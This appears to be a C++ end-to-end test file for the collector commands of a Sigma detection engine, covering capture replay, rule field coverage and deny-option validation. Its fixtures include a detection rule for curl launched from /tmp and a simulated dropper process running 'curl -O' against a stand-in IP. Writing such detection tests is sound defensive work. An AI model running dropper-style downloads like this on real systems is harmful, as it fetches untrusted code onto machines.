// The verbs of the collector that need no kernel: replay, fields, and status without a collector.
#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>

#include "collector-driver/common/capture.h"
#include "tests/end_to_end/run_command.h"
#include "tests/support/collector_records.h"

namespace sigmavm::end_to_end {
namespace {

using collector::CaptureWriter;
using collector::TestProcess;
using nlohmann::json;

constexpr std::string_view kCurlRule = R"(title: Curl from a temporary folder
id: 8f1e2d3c-0a1b-4c2d-8e3f-0123456789ab
status: test
level: high
tags:
    - attack.t1105
logsource:
    category: process_creation
    product: linux
detection:
    selection:
        Image|endswith: /curl
        ParentImage|startswith: /tmp/
    condition: selection
)";

std::string MakeCapture(const TemporaryFolder& folder, const std::vector<TestProcess>& processes) {
  std::string path = folder.Path("capture");
  auto capture = CaptureWriter::Open(path, {{7, 9}, collector::kSgrLinux, 0, "web-01"});
  if (!capture) return {};
  collector::RecordWriter writer;
  uint64_t sequence = 0;
  for (const TestProcess& process : processes) {
    const auto bytes = WriteProcess(writer, process, collector::kSgrCreate, ++sequence);
    EXPECT_FALSE(capture->Append(bytes));
  }
  EXPECT_FALSE(capture->Flush());
  return path;
}

std::vector<TestProcess> Story() {
  return {{50, 1, "/tmp/dropper", {"dropper"}, 0, 0},
          {60, 50, "/usr/bin/curl", {"curl", "-O", "http://203.0.113.7/\xFFx"}, 0, 0},
          {70, 1, "/usr/bin/curl", {"curl", "http://127.0.0.1/"}, 0, 0}};
}

TEST(CollectReplayTest, EvaluatesACaptureAndNamesItsParents) {
  const TemporaryFolder folder;
  const std::string capture = MakeCapture(folder, Story());
  const std::string rule = folder.Write("rule.yml", kCurlRule);
  const CommandResult result = RunSigmavm({"collect", "replay", capture, "-r", rule});
  EXPECT_EQ(result.exit_code, 0) << result.err;
  const json alert = json::parse(result.out);
  EXPECT_EQ(alert["rule_title"], "Curl from a temporary folder");
  EXPECT_EQ(alert["attack"], json({"T1105"}));
  EXPECT_EQ(alert["event"]["ProcessId"], 60);
  EXPECT_EQ(alert["event"]["ParentImage"], "/tmp/dropper");
  EXPECT_EQ(alert["event"]["Computer"], "web-01");
  EXPECT_EQ(alert["event"]["RuleName"], "Curl from a temporary folder");
  EXPECT_NE(result.err.find("3 events, 1 alerts"), std::string::npos) << result.err;
}

TEST(CollectReplayTest, EvalOnItsEventsComesToTheSameVerdicts) {
  const TemporaryFolder folder;
  const std::string capture = MakeCapture(folder, Story());
  const std::string rule = folder.Write("rule.yml", kCurlRule);
  for (const char* format : {"ndjson", "xml"}) {
    const std::string events = folder.Path(format);
    const std::string spec = std::string(format) + ":" + events;
    ASSERT_EQ(RunSigmavm({"collect", "replay", capture, "--output", spec}).exit_code, 0);
    const CommandResult result = RunSigmavm({"eval", "-r", rule, "--format", "ndjson", events});
    EXPECT_EQ(result.exit_code, 0) << result.err;
    const auto lines = Lines(result.out);
    ASSERT_EQ(lines.size(), 1U) << result.out << result.err;
    EXPECT_EQ(json::parse(lines[0])["record"], 2);
  }
}

TEST(CollectReplayTest, TwoReplaysGiveTheSameBytes) {
  const TemporaryFolder folder;
  const std::string capture = MakeCapture(folder, Story());
  const auto replay = [&] { return RunSigmavm({"collect", "replay", capture}).out; };
  const std::string first = replay();
  EXPECT_EQ(Lines(first).size(), 3U);
  EXPECT_EQ(first, replay());
}

TEST(CollectReplayTest, CutOffCaptureIsReplayedAndReported) {
  const TemporaryFolder folder;
  const std::string whole = ReadAll(MakeCapture(folder, Story()));
  const std::string cut = folder.Write("cut", whole.substr(0, whole.size() - 8));
  const CommandResult result = RunSigmavm({"collect", "replay", cut});
  EXPECT_EQ(result.exit_code, 4);
  EXPECT_EQ(Lines(result.out).size(), 2U);
  EXPECT_NE(result.err.find("SV0923"), std::string::npos) << result.err;
}

TEST(CollectReplayTest, FullOutputIsCountedAndChangesTheExitCode) {
  const TemporaryFolder folder;
  const std::string capture = MakeCapture(folder, Story());
  const CommandResult result =
      RunSigmavm({"-v", "collect", "replay", capture, "--output", "ndjson:/dev/full"});
  EXPECT_EQ(result.exit_code, 4);
  EXPECT_NE(result.err.find("3 lost (write_error)"), std::string::npos) << result.err;
}

TEST(CollectReplayTest, TwoOutputsMayNotShareATarget) {
  const TemporaryFolder folder;
  const std::string capture = MakeCapture(folder, Story());
  const CommandResult result =
      RunSigmavm({"collect", "replay", capture, "--output", "ndjson", "--alerts", "ecs:-"});
  EXPECT_EQ(result.exit_code, 3);
  EXPECT_NE(result.err.find("already the target"), std::string::npos) << result.err;
}

TEST(CollectFieldsTest, SaysWhichRulesCanNeverFire) {
  const TemporaryFolder folder;
  const auto rule = [](const char* title, const char* product, const char* detection) {
    return std::string("title: ") + title + "\nlogsource:\n    category: process_creation\n" +
           "    product: " + product + "\ndetection:\n" + detection;
  };
  folder.Write("rules/a.yml", rule("Alive", "linux",
                                   "    a:\n        Image: /x\n        Hashes|contains: 'MD5=0'\n"
                                   "    condition: a\n"));
  folder.Write("rules/b.yml", rule("Asks for a level", "linux",
                                   "    a:\n        Image: /x\n        IntegrityLevel: High\n"
                                   "    condition: a\n"));
  folder.Write("rules/c.yml", rule("Asks for the level of Linux", "linux",
                                   "    a:\n        IntegrityLevel: no level\n    condition: a\n"));
  folder.Write("rules/d.yml", rule("Asks for a field of nobody", "linux",
                                   "    a:\n        Signed: 'true'\n    b:\n        Image: /x\n"
                                   "    condition: a and b\n"));
  folder.Write("rules/e.yml", rule("Excludes by a field of nobody", "linux",
                                   "    a:\n        Image: /x\n    b:\n        Signed: 'true'\n"
                                   "    condition: a and not b\n"));
  folder.Write("rules/f.yml", rule("Of another system", "windows",
                                   "    a:\n        Image: /x\n    condition: a\n"));
  const CommandResult result =
      RunSigmavm({"collect", "fields", "-r", folder.Path("rules"), "--format", "json"});
  EXPECT_EQ(result.exit_code, 0) << result.err;
  const json coverage = json::parse(result.out);
  EXPECT_EQ(coverage["rules"], 6);
  EXPECT_EQ(coverage["hashes"], true);
  EXPECT_EQ(coverage["version_info"], false);
  std::vector<std::string> never;
  for (const json& entry : coverage["never"]) never.push_back(entry["rule_title"]);
  std::sort(never.begin(), never.end());
  EXPECT_EQ(never, (std::vector<std::string>{"Asks for a field of nobody", "Asks for a level",
                                             "Of another system"}));
  for (const json& entry : coverage["never"]) {
    if (entry["rule_title"] != "Asks for a field of nobody") continue;
    EXPECT_NE(entry["reason"].get<std::string>().find("Signed"), std::string::npos);
  }
}

TEST(CollectFieldsTest, SaysWhichRulesCanDeny) {
  const TemporaryFolder folder;
  const auto rule = [](const char* id, const char* detection) {
    return std::string("title: Rule\nid: ") + id + "\nlogsource:\n    category: " +
           "process_creation\n    product: linux\ndetection:\n    a:\n" + detection +
           "    condition: a\n";
  };
  folder.Write("rules/a.yml", rule("8f1e2d3c-0a1b-4c2d-8e3f-000000000001",
                                   "        Image: /x\n        User: root\n"));
  folder.Write("rules/b.yml", rule("8f1e2d3c-0a1b-4c2d-8e3f-000000000002",
                                   "        Image: /x\n        CommandLine|contains: y\n"));
  folder.Write("rules/c.yml", rule("8f1e2d3c-0a1b-4c2d-8e3f-000000000003", "        - keyword\n"));
  const CommandResult result =
      RunSigmavm({"collect", "fields", "-r", folder.Path("rules"), "--format", "json"});
  EXPECT_EQ(result.exit_code, 0) << result.err;
  const json coverage = json::parse(result.out);
  ASSERT_EQ(coverage["before_start"].size(), 1U) << result.out;
  EXPECT_EQ(coverage["before_start"][0]["rule_id"], "8f1e2d3c-0a1b-4c2d-8e3f-000000000001");
  for (const json& field : coverage["fields"]) {
    const bool early = field["name"] == "Image" || field["name"] == "User";
    EXPECT_EQ(field["before_start"], early) << field["name"];
  }
}

TEST(CollectRunTest, RuleThatCannotDenyIsRefusedWithTheReason) {
  const TemporaryFolder folder;
  const std::string rule = folder.Write("rule.yml", kCurlRule);
  std::string late = std::string(kCurlRule);
  late.replace(late.find("Image|endswith"), 5, "CommandLine");
  const std::string late_rule = folder.Write("late.yml", late);
  std::string other = std::string(kCurlRule);
  other.replace(other.find("linux"), 5, "windows");
  const std::string other_rule = folder.Write("other.yml", other);
  const std::string id = "8f1e2d3c-0a1b-4c2d-8e3f-0123456789ab";
  const struct {
    std::vector<std::string> arguments;
    const char* reason;
  } cases[] = {
      {{"-r", rule, "--hold", "/", "--deny", "unknown"}, "no rule that is loaded has this id"},
      {{"-r", late_rule, "--hold", "/", "--deny", id}, "not known before the start: CommandLine"},
      {{"-r", other_rule, "--hold", "/", "--deny", id}, "not for process creations on Linux"},
      {{"-r", rule, "--deny", id}, "only programs that are held can be denied"},
      {{"--hold", "/", "--deny", id}, "only programs that are held can be denied"},
      {{"--hold", "/", "--hold-deadline", "2"}, "is not a time"},
      {{"--hold", "/", "--hold-deadline", "61s"}, "is not a time"},
      {{"--hold", "/", "--hold-deadline", "0s"}, "is not a time"},
  };
  for (const auto& test : cases) {
    std::vector<std::string> arguments = {"collect", "run", "--state-dir", folder.Path("state")};
    arguments.insert(arguments.end(), test.arguments.begin(), test.arguments.end());
    const CommandResult result = RunSigmavm(arguments);
    EXPECT_EQ(result.exit_code, 3) << test.reason;
    EXPECT_NE(result.err.find(test.reason), std::string::npos) << result.err;
  }
}

TEST(CollectStatusTest, SaysThatNoCollectorAnswers) {
  const TemporaryFolder folder;
  const CommandResult result = RunSigmavm({"collect", "status", "--state-dir", folder.Path("x")});
  EXPECT_EQ(result.exit_code, 4);
  EXPECT_NE(result.err.find("SV0921"), std::string::npos) << result.err;
}

}  // namespace
}  // namespace sigmavm::end_to_end
